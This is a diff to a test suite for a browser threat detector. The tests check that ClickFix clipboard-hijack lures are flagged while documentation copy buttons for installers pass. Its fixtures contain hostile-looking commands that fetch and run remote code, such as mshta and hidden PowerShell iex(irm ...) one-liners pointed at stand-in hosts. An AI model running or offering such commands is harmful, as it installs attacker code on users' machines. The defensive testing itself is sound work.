@@ -328,7 +328,8 @@ describe('analysis: signal rules', () => {
       const copyButton = kit('https://docs.example/', `<pre>powershell -c Get-Process</pre><script>b.onclick=()=>navigator.clipboard.writeText(p.innerText)</script>`);
       assert.equal(copyButton.result.verdict, 'clean');
       const captured = kit('https://c2.example/', '<p>Press Win+R</p>', { clipboardWrites: ['mshta https://x.example/a.hta'] });
-      assert.match(find(captured.signals, 'clipboard-shell-command')?.evidence ?? '', /^clipboard: mshta/);
+      assert.match(find(captured.signals, 'clipboard-shell-copied')?.evidence ?? '', /^clipboard: mshta/);
+      assert.ok(captured.result.decidedBy?.includes('combo:clickfix-copied'));
     });
 
     it('HTML smuggling, wallet drainers, tech-support scams, bot evasion', () => {
@@ -583,14 +584,16 @@ describe('analysis: signal rules', () => {
 
     it('ClickFix in the browser: a copied command decides beside a human check or Run steps, not alone (documentation copy buttons copy one-liners too)', () => {
       const docs = judge('https://brewline.example/', '<h1>Install Brewline</h1><code id="i">/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"</code><button data-copy="i">Copy</button><p>Paste that in a macOS Terminal.</p>', { clipboardWrites: ['/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"'] });
-      assert.ok(ids(docs).includes('clipboard-shell-command'));
+      assert.ok(ids(docs).includes('clipboard-shell-copied'));
       clean(docs);
       const scoop = judge('https://get.scoopline.example/', '<h1>Install Scoopline</h1><p>Open PowerShell (not as admin), paste the command and press Enter:</p><code id="c">irm get.scoopline.example | iex</code><button data-copy="c">Copy</button>', { clipboardWrites: ['irm get.scoopline.example | iex'] });
       clean(scoop);
       const font = judge('https://dental-blog.example/post', `<h1>The "HoeflerText" font wasn't found</h1><p>Right-click the Windows icon, select Windows PowerShell (Admin), paste the copied code and press Enter.</p><script>fix.onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -enc ' + p)}</script>`);
       assert.ok(font.decidedBy?.includes('combo:clickfix-pretext'));
       const gate = judge('https://gate.example/', '<h1>Verify you are human</h1><div id="b">I am not a robot</div>', { clipboardWrites: ['powershell -w h -c "iex(irm https://gate.example/a)"'] });
-      assert.ok(gate.decidedBy?.includes('combo:clickfix'));
+      assert.ok(gate.decidedBy?.includes('combo:clickfix-copied'));
+      const checksum = judge('https://brewline.example/verify', '<h1>Install Brewline</h1><h2>Verification steps</h2><p>Security check: compare the installer checksum. Paste this in a Terminal:</p><code id="i">curl -fsSL https://get.brewline.example | sh</code><button data-copy="i">Copy</button>', { clipboardWrites: ['curl -fsSL https://get.brewline.example | sh'] });
+      clean(checksum);
     });
 
     const clickfixLookalikes: [string, string, string][] = [
